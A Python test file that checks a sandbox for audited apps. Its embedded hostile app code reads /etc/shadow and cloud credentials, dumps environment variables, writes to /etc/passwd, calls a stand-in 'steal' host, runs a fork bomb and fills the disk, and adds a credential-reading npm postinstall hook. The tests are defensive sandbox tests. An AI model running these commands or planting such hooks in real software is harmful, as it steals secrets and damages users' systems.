"""The audited app is hostile: it sees nothing, reaches nothing, and leaves nothing."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from small_app import plan, write_app
from trial_processes import all_ended, descendants, gone, running

from roadworthy.errors import AppError
from roadworthy.trial import open_trial

KINDS = ("bubblewrap", "namespaces")


@pytest.fixture(params=KINDS)
def kind(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Each kind of sandbox in turn."""
    if request.param == "bubblewrap" and shutil.which("bwrap") is None:
        pytest.skip("no bubblewrap")
    monkeypatch.setattr("roadworthy.trial.sandbox.sandbox_kind", lambda: request.param)
    return str(request.param)


LOOK_AROUND = """
def get_read(request):
    found = {}
    for path in PATHS:
        try:
            found[path] = open(path).read()
        except OSError as error:
            found[path] = None
    return 200, found, {}

def get_environment(request):
    return 200, dict(os.environ), {}

def get_folder(request):
    return 200, sorted(os.listdir(".")), {}

def get_write(request):
    done = []
    for path in WRITES:
        try:
            open(path, "w").write("hostile")
            done.append(path)
        except OSError:
            pass
    return 200, done, {}
"""


def test_it_reads_nothing_of_the_home_the_user_or_the_other_environment_files(
    tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    secrets = tmp_path / "home" / ".aws" / "credentials"
    secrets.parent.mkdir(parents=True)
    secrets.write_text("aws_secret_access_key = canary")
    real = Path.home() / ".bashrc"
    paths = [str(secrets), str(real), "/etc/shadow", "/proc/1/environ", str(Path(__file__))]
    app = write_app(tmp_path / "app", f"PATHS = {paths!r}\n{LOOK_AROUND}")
    for name in (".env", ".env.local", ".env.production", ".npmrc", "service-account.json"):
        (app / name).write_text("//registry.example.com/:_authToken=canary\nSECRET=canary")
    (app / ".yarnrc.yml").write_text("nodeLinker: node-modules\nnpmAuthToken: canary\n")
    (app / ".env.example").write_text("SECRET=change-me")
    monkeypatch.setenv("CANARY", "canary")
    monkeypatch.setenv("DATABASE_URL", "postgres://production.example.com/canary")
    with open_trial(app, plan(environment_names=("SECRET", "CANARY_NAME"))) as trial:
        assert trial.sandbox == kind
        assert not any(trial.send("anonymous", "GET", "/read").json().values())
        environment = trial.send("anonymous", "GET", "/environment").text
        assert "canary" not in environment
        assert '"SECRET"' in environment
        assert "change-me" not in environment
        assert trial.send("anonymous", "GET", "/folder").json() == [
            ".env.example",
            ".npmrc",
            ".yarnrc.yml",
            "server.py",
        ]
        assert trial.file(".npmrc").read_text() == ""
        assert trial.file(".yarnrc.yml").read_text() == "nodeLinker: node-modules\n"


def test_it_writes_nowhere_but_in_its_copy(tmp_path: Path, kind: str) -> None:
    target = tmp_path / "outside.txt"
    target.write_text("mine")
    target.chmod(0o666)
    writes = [str(target), "/usr/bin/hostile", "/etc/passwd", "/hostile", "/opt/hostile", "/app/inside.txt"]
    app = write_app(tmp_path / "app", f"WRITES = {writes!r}\n{LOOK_AROUND}")
    with open_trial(app, plan()) as trial:
        assert trial.send("anonymous", "GET", "/write").json() == ["/app/inside.txt"]
        assert trial.file("inside.txt").read_text() == "hostile"
    assert target.read_text() == "mine"
    assert sorted(path.name for path in app.iterdir()) == ["server.py"]


def test_it_reaches_no_address_of_this_machine_or_beyond(tmp_path: Path, kind: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        app = write_app(
            tmp_path / "app",
            f"""
def get_call(request):
    reached = []
    for address in (("127.0.0.1", {listener.getsockname()[1]}), ("1.1.1.1", 53), ("10.0.0.1", 80)):
        try:
            socket.create_connection(address, 2).close()
            reached.append(address)
        except OSError:
            pass
    return 200, reached, {{}}

def get_home(request):
    urllib.request.urlopen("https://collect.example.net/steal?what=everything").read()
    return 200, {{}}, {{}}
""",
        )
        with open_trial(app, plan()) as trial:
            assert trial.send("anonymous", "GET", "/call").json() == []
            assert trial.send("anonymous", "GET", "/").status == 200
            assert "/steal?what=everything" in {
                request.path for request in trial.doubles.requests("collect.example.net")
            }


def test_what_it_forks_ends_with_it_even_when_it_ignores_being_told(tmp_path: Path, kind: str) -> None:
    marker = f"marker{uuid.uuid4().hex}"
    app = write_app(
        tmp_path / "app",
        f"""
signal.signal(signal.SIGTERM, signal.SIG_IGN)
subprocess.Popen([sys.executable, "-c",
    "import signal, time\\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\\ntime.sleep(600)",
    "{marker}"], start_new_session=True)
""",
    )
    with open_trial(app, plan()) as trial:
        assert running(marker)
        began = time.monotonic()
        trial.stop()
        assert time.monotonic() - began < 4
        assert gone(marker, 1)
        assert not trial.alive()
        assert trial.send("anonymous", "GET", "/").error
        trial.start()
        assert trial.send("anonymous", "GET", "/").status == 200
    assert gone(marker)


def test_a_fork_bomb_fills_only_its_own_limit(tmp_path: Path) -> None:
    marker = f"marker{uuid.uuid4().hex}"
    app = write_app(
        tmp_path / "app",
        f"""
def get_bomb(request):
    made = 0
    try:
        for _ in range(700):
            subprocess.Popen(["/bin/sh", "-c", "sleep 600; : {marker}"])
            made += 1
    except OSError:
        pass
    return 200, made, {{}}
""",
    )
    with open_trial(app, plan()) as trial:
        made = trial.send("anonymous", "GET", "/bomb", timeout=60)
        if os.geteuid() == 0:
            assert made.json() < 512
        assert trial.send("anonymous", "GET", "/").status in (0, 200)
    assert gone(marker)


def test_printing_for_ever_fills_no_memory_and_the_app_stays_usable(tmp_path: Path) -> None:
    app = write_app(
        tmp_path / "app",
        """
def chatter():
    while True:
        os.write(1, b"x" * 65535 + b"\\n")
threading.Thread(target=chatter, daemon=True).start()
""",
    )
    with open_trial(app, plan()) as trial:
        mark = trial.log_mark()
        deadline = time.monotonic() + 20
        while trial.log_mark() < mark + 10_000_000 and time.monotonic() < deadline:
            time.sleep(0.05)
        assert len(trial.log_since(0)) < 6 << 20
        assert trial.send("anonymous", "GET", "/").status == 200


def test_an_app_that_fills_the_disk_is_ended(
    tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("roadworthy.trial.disk_room.MOST_BYTES", 64 << 20)
    app = write_app(
        tmp_path / "app",
        """
def get_fill(request):
    for number in range(10_000):
        with open(f"{number}.bin", "wb") as file:
            file.write(os.urandom(1 << 20) * 8)
    return 200, "filled", {}
""",
    )
    with open_trial(app, plan()) as trial:
        assert trial.send("anonymous", "GET", "/fill", timeout=60).status == 0
        assert "more than a trial gives room for" in trial.log_since(0)
        assert not trial.alive()


def test_listening_on_all_interfaces_opens_no_port_of_this_machine(tmp_path: Path, kind: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    app = write_app(
        tmp_path / "app",
        f"""
everywhere = socket.create_server(("0.0.0.0", {port}))

def get_listens(request):
    socket.create_connection(("127.0.0.1", {port}), 2).close()
    return 200, {{}}, {{}}
""",
    )
    with open_trial(app, plan()) as trial:
        assert trial.send("anonymous", "GET", "/listens").status == 200
        with pytest.raises(OSError):
            socket.create_connection(("127.0.0.1", port), 2)
        # What we open for it ourselves is at the loopback address alone.
        reached_at = int(trial.reached_at.rpartition(":")[2])
        socket.create_connection(("127.0.0.1", reached_at), 2).close()
        with pytest.raises(OSError):
            socket.create_connection(("127.0.0.2", reached_at), 2)


@pytest.mark.parametrize("allowed", [False, True])
def test_a_script_of_a_package_runs_only_when_told_to_and_gets_nowhere(
    tmp_path: Path, kind: str, allowed: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANARY", "canary")
    monkeypatch.setenv("ROADWORTHY_CACHE", str(tmp_path / "cache"))
    secret = tmp_path / "home" / ".aws" / "credentials"
    secret.parent.mkdir(parents=True)
    secret.write_text("canary")
    left = "node_modules/ran.txt"
    steals = f"mkdir -p /app/node_modules; (echo ran; env; cat {secret}; touch {secret}.copy) > /app/{left} 2>&1; true"
    app = write_app(tmp_path / "app", "")
    scripts = {"postinstall": steals}
    (app / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "scripts": scripts}))
    install = "npm install --no-audit --no-fund --offline" + ("" if allowed else " --ignore-scripts")
    with open_trial(app, plan(runtime="node", install=(f"mkdir -p node_modules && {install}",))) as trial:
        _code, found = trial.run(f"cat {left}", 10)
    assert found.startswith("ran\n") == allowed
    assert "canary" not in found
    assert sorted(path.name for path in secret.parent.iterdir()) == ["credentials"]


def test_an_app_that_ends_at_once_is_reported_with_its_last_words(tmp_path: Path) -> None:
    app = write_app(tmp_path / "app", "raise SystemExit('the database is missing')")
    with (
        pytest.raises(AppError, match=r"start: the app ended while starting.*the database is missing"),
        open_trial(app, plan()),
    ):
        pass


def test_an_app_that_never_answers_meets_the_deadline(tmp_path: Path) -> None:
    app = write_app(tmp_path / "app", "print('thinking', flush=True)\ntime.sleep(600)")
    with (
        pytest.raises(AppError, match=r"start: no answer within .* s: thinking"),
        open_trial(app, plan(), deadline=3),
    ):
        pass


def test_a_build_that_hangs_meets_the_deadline(tmp_path: Path) -> None:
    marker = f"6{uuid.uuid4().int % 10**8}"
    app = write_app(tmp_path / "app", "")
    with (
        pytest.raises(AppError, match="took longer than"),
        open_trial(app, plan(build=(f"sleep {marker}",)), deadline=3),
    ):
        pass
    assert gone(marker)


OPEN_AND_WAIT = """
import contextlib, sys, time
from pathlib import Path
sys.path.insert(0, {tests!r})
from small_app import plan
from roadworthy.trial import open_trial, sandbox
sandbox.sandbox_kind = lambda: {kind!r}
with open_trial(Path({app!r}), plan(database="postgres")) as trial, contextlib.ExitStack() as stack:
    if {browser!r}:
        stack.enter_context(trial.browser()).open("/")
    print(trial.base_url, flush=True)
    time.sleep(600)
"""


@pytest.mark.parametrize(
    ("how", "kind"),
    [
        (signal.SIGKILL, "bubblewrap"),
        (signal.SIGKILL, "namespaces"),
        (signal.SIGINT, "bubblewrap"),
        (signal.SIGTERM, "bubblewrap"),
    ],
    indirect=["kind"],
)
def test_nothing_is_left_when_roadworthy_is_killed(tmp_path: Path, how: signal.Signals, kind: str) -> None:
    marker = f"marker{uuid.uuid4().hex}"
    app = write_app(
        tmp_path / "app",
        f'subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{marker}"], start_new_session=True)',
    )
    browser = how == signal.SIGKILL and shutil.which("chromium") is not None
    script = OPEN_AND_WAIT.format(tests=str(Path(__file__).parent), app=str(app), browser=browser, kind=kind)
    temporary = tmp_path / "t"
    temporary.mkdir()
    owner = subprocess.Popen(
        [sys.executable, "-c", script],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env={**os.environ, "TMPDIR": str(temporary)},
    )
    assert owner.stdout is not None
    assert owner.stdout.readline().startswith("http://127.0.0.1:")
    assert running(marker)
    left = descendants(owner.pid)
    assert len(left) > 8
    owner.send_signal(how)
    owner.wait(20)
    owner.stdout.close()
    assert gone(marker)
    assert all_ended(left)
